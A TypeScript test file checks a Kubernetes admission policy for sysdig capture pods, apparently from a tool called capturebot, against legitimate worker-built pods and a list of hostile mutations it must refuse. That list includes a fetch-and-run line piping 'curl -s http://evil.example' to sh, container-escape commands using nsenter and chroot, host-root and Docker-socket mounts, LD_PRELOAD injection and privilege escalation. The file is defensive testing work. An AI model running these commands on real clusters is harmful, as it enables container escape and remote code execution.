import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { V1Pod } from '@kubernetes/client-node';
import { describe, expect, it } from 'vitest';
import { DRIVERS } from '../../src/capture/driver.js';
import { buildCapturePod } from '../../src/kube/capture-pod.js';
import { sampleJob } from '../../src/kube/testdata/sample-job.js';
import { deployedAdmission, judge } from '../support/capture-admission.js';
import type { WirePod } from '../support/kube/kube-types.js';
import { applyPodDefaults } from '../support/kube/pod-defaults.js';
import { REPO_ROOT } from '../support/repo-root.js';

const DEPLOY = join(REPO_ROOT, 'deploy');
const admission = deployedAdmission(DEPLOY);
const NODE = 'ip-10-40-1-17.eu-west-1.compute.internal';

/** A pod the worker builds, as plain JSON (the way it goes over the wire). */
function workerPod(overrides: Parameters<typeof sampleJob>[0] = {}, part?: { index: number; node: string }): V1Pod {
  const job = { ...sampleJob(overrides), ...(part && { part }) };
  return JSON.parse(JSON.stringify(buildCapturePod(job, { ...admission.podSettings, nodeName: part?.node ?? NODE }))) as V1Pod;
}

/** As admission sees it on CREATE: after the API server's defaulting, and without the empty strings Go's JSON omits. */
function asAdmitted(pod: V1Pod): V1Pod {
  const copy = structuredClone(pod) as WirePod & V1Pod;
  applyPodDefaults(copy);
  delete copy.status;
  copy.spec!.serviceAccountName ??= 'default';
  copy.spec!.serviceAccount ??= 'default';
  for (const c of [...(copy.spec!.initContainers ?? []), ...copy.spec!.containers]) {
    for (const e of c.env ?? []) if (e.value === '') delete e.value;
  }
  return copy;
}

const admitted = { judged: true, denied: [] };

describe('the admission policy in deploy/, on the pods the worker builds', () => {
  const cases = DRIVERS.flatMap((driver) =>
    [undefined, 'proc.name=haproxy and fd.port=80'].flatMap((filter) =>
      [undefined, { index: 2, node: 'node-c' }].map((part) => ({ driver, filter, part, label: `${driver}, ${filter ? 'a filter' : 'no filter'}, ${part ? 'one node of a wide capture' : 'one pod'}` })),
    ),
  );

  it.each(cases)('admits the capture pod for $label', ({ driver, filter, part }) => {
    const pod = workerPod({ driver, ...(filter && { filter }) }, part);
    expect(judge(admission, pod)).toEqual(admitted);
    expect(judge(admission, asAdmitted(pod))).toEqual(admitted);
  });

  it('admits the longest capture MAX_DURATION allows, and a change to the labels of a capture pod', () => {
    expect(judge(admission, workerPod({ durationSeconds: 86_400 }))).toEqual(admitted);
    const pod = workerPod();
    const relabelled = { ...pod, metadata: { ...pod.metadata, labels: { ...pod.metadata!.labels, audited: 'yes' } } };
    expect(judge(admission, relabelled, { operation: 'UPDATE', oldObject: pod })).toEqual(admitted);
  });

  it('judges only pods in the capture namespace', () => {
    const shell = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'debug' }, spec: { containers: [{ name: 'sh', image: 'busybox', command: ['sh'] }] } };
    expect(judge(admission, shell, { namespace: 'default', namespaceLabels: { 'kubernetes.io/metadata.name': 'default' } })).toEqual({ judged: false });
    expect(judge(admission, shell).judged).toBe(true);
  });

  it("selects the namespace the worker's CAPTURE_NAMESPACE names", () => {
    expect(admission.podSettings.namespace).toBe('capturebot-captures');
    expect(admission.policy.spec?.matchConstraints?.namespaceSelector).toEqual({ matchLabels: { 'kubernetes.io/metadata.name': admission.podSettings.namespace } });
  });

  it('is enforced: its binding denies, it fails closed, and it covers ephemeral containers', () => {
    expect(admission.binding.spec).toEqual({ policyName: 'capturebot-capture-pods', validationActions: ['Deny'] });
    expect(admission.policy.spec?.failurePolicy).toBe('Fail');
    expect(admission.policy.spec?.matchConstraints?.resourceRules).toEqual([
      { apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE', 'UPDATE'], resources: ['pods', 'pods/ephemeralcontainers'] },
    ]);
  });
});

describe('the capture image, set in one place', () => {
  const MIRRORED = `registry.internal:5000/mirror/sysdig@sha256:${'0123456789abcdef'.repeat(4)}`;

  it('is what the worker runs and what the policy admits, also for a mirror pinned by digest', () => {
    const dir = mkdtempSync(join(tmpdir(), 'capture-image-'));
    try {
      cpSync(DEPLOY, dir, { recursive: true });
      const settings = join(dir, 'base/settings.yaml');
      const before = readFileSync(settings, 'utf8');
      writeFileSync(settings, before.replace(/^ {2}CAPTURE_IMAGE: .*$/m, `  CAPTURE_IMAGE: ${MIRRORED}`));
      expect(readFileSync(settings, 'utf8')).not.toBe(before);
      const mirrored = deployedAdmission(dir);
      expect(mirrored.podSettings.image).toBe(MIRRORED);
      const pod = (image: string) => JSON.parse(JSON.stringify(buildCapturePod(sampleJob(), { ...mirrored.podSettings, image, nodeName: NODE }))) as unknown;
      expect(judge(mirrored, pod(MIRRORED))).toEqual(admitted);
      expect(judge(mirrored, pod('docker.io/sysdig/sysdig:0.40.1'))).toEqual({ judged: true, denied: [`every container of a capture pod runs the capture image ${MIRRORED}`] });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

type Mutation = (pod: V1Pod) => void;
const capture = (pod: V1Pod) => pod.spec!.initContainers![0]!;
const holder = (pod: V1Pod) => pod.spec!.containers[0]!;

/** What someone holding the worker's token might create instead, and the rule that refuses it. */
const HOSTILE: readonly [string, Mutation, RegExp][] = [
  ['another image', (p) => void (capture(p).image = 'docker.io/library/alpine:3.20'), /runs the capture image docker\.io\/sysdig\/sysdig:0\.40\.1$/],
  ['the same repository at another tag', (p) => void (holder(p).image = 'docker.io/sysdig/sysdig:latest'), /runs the capture image/],
  ['a third container', (p) => void p.spec!.containers.push({ name: 'shell', image: 'docker.io/library/busybox', command: ['sh'] }), /one container named holder/],
  ['a second init container with another image', (p) => void p.spec!.initContainers!.push({ name: 'setup', image: 'docker.io/library/busybox' }), /one init container named capture/],
  ['an ephemeral container', (p) => void (p.spec!.ephemeralContainers = [{ name: 'debug', image: 'docker.io/sysdig/sysdig:0.40.1', command: ['sh'] }]), /no ephemeral containers/],
  ['a shell as the command of the capture container', (p) => void ((capture(p).command = ['/bin/sh', '-c']), (capture(p).args = ['chroot /host/proc/1/root'])), /runs sysdig and nothing else/],
  ['a shell run by the image entrypoint', (p) => void (capture(p).args = ['/bin/sh', '-c', 'nsenter -t 1 -m -u -i -n sh']), /runs sysdig and nothing else/],
  ['sysdig running a chisel', (p) => void capture(p).args!.splice(1, 0, '-c', 'spy_users'), /runs sysdig and nothing else/],
  ['sysdig told to run a chisel file instead of writing the trace', (p) => void (capture(p).args![6] = '-c'), /runs sysdig and nothing else/],
  ['sysdig writing outside the trace volume', (p) => void (capture(p).args![7] = '/host/etc/cron.d/x.scap.gz'), /runs sysdig and nothing else/],
  ['the host root mounted', (p) => void (p.spec!.volumes!.push({ name: 'root', hostPath: { path: '/' } }), capture(p).volumeMounts!.push({ name: 'root', mountPath: '/host' })), /volumes are the host's/],
  ['a known volume name on another host path', (p) => void (p.spec!.volumes!.find((v) => v.name === 'host-etc')!.hostPath!.path = '/'), /volumes are the host's/],
  ['the Docker socket', (p) => void p.spec!.volumes!.push({ name: 'docker', hostPath: { path: '/var/run/docker.sock' } }), /volumes are the host's/],
  ['a projected service-account token', (p) => void p.spec!.volumes!.push({ name: 'token', projected: { sources: [{ serviceAccountToken: { path: 'token' } }] } }), /volumes are the host's/],
  ['a host mount made writable', (p) => void (capture(p).volumeMounts!.find((m) => m.name === 'host-etc')!.readOnly = false), /known host paths read-only/],
  ['a host mount propagating back to the host', (p) => void (capture(p).volumeMounts!.find((m) => m.name === 'host-run')!.mountPropagation = 'Bidirectional'), /known host paths read-only/],
  ['a host path mounted into the holder', (p) => void holder(p).volumeMounts!.push({ name: 'host-etc', mountPath: '/etc-host', readOnly: true }), /holder container only waits/],
  ['a shell in the holder', (p) => void (holder(p).command = ['/bin/sh', '-c', 'curl -s http://evil.example | sh']), /holder container only waits/],
  ['a privileged holder', (p) => void (holder(p).securityContext!.privileged = true), /holder container only waits/],
  ['a capability added to the holder', (p) => void (holder(p).securityContext!.capabilities!.add = ['SYS_ADMIN']), /holder container only waits/],
  ['a postStart hook', (p) => void (holder(p).lifecycle = { postStart: { exec: { command: ['/bin/sh', '-c', 'id'] } } }), /no hooks, probes, ports or sidecars/],
  ['an exec probe', (p) => void (capture(p).livenessProbe = { exec: { command: ['/bin/sh', '-c', 'id'] } }), /no hooks, probes, ports or sidecars/],
  ['a restartable init container (a sidecar)', (p) => void (capture(p).restartPolicy = 'Always'), /no hooks, probes, ports or sidecars/],
  ['LD_PRELOAD in the environment', (p) => void (capture(p).env = [{ name: 'LD_PRELOAD', value: '/host/tmp/x.so' }]), /only environment variable is an empty SYSDIG_BPF_PROBE/],
  ['hostNetwork', (p) => void (p.spec!.hostNetwork = true), /not its network or IPC/],
  ['no deadline', (p) => void delete p.spec!.activeDeadlineSeconds, /activeDeadlineSeconds of at most 87000$/],
  ['a deadline of a month', (p) => void (p.spec!.activeDeadlineSeconds = 30 * 86_400), /activeDeadlineSeconds of at most 87000$/],
  ['restarts', (p) => void (p.spec!.restartPolicy = 'Always'), /restartPolicy Never/],
  ['the service-account token mounted', (p) => void (p.spec!.automountServiceAccountToken = true), /no token mounted/],
  ['another service account', (p) => void (p.spec!.serviceAccountName = 'capture-admin'), /default service account/],
  ['no managed-by label', (p) => void delete p.metadata!.labels!['app.kubernetes.io/managed-by'], /so that the janitor finds it/],
  ['a capture id that is not one', (p) => void (p.metadata!.labels!['capturebot.io/capture-id'] = 'x'), /so that the janitor finds it/],
];

describe('the admission policy in deploy/, on hostile pods in the capture namespace', () => {
  it.each(DRIVERS.flatMap((driver) => HOSTILE.map(([what, mutate, message]) => ({ driver, what, mutate, message }))))(
    'refuses $what ($driver pod)',
    ({ driver, mutate, message }) => {
      const pod = workerPod({ driver, filter: 'fd.port=80' });
      mutate(pod);
      const verdict = judge(admission, pod);
      expect(verdict.judged).toBe(true);
      const denied = verdict.judged ? verdict.denied : [];
      expect(denied.some((m) => message.test(m)), denied.join('\n')).toBe(true);
      expect(denied.filter((m) => m.startsWith('expression error')), 'refused by a rule, not by an error').toEqual([]);
    },
  );

  it('refuses an ephemeral container added to a running capture pod', () => {
    const pod = workerPod();
    const debugged = { ...pod, spec: { ...pod.spec!, ephemeralContainers: [{ name: 'debug', image: admission.podSettings.image, command: ['sh'] }] } };
    const verdict = judge(admission, debugged, { operation: 'UPDATE', subresource: 'ephemeralcontainers', oldObject: pod });
    expect(verdict).toEqual({ judged: true, denied: [expect.stringMatching(/no ephemeral containers/)] });
  });
});
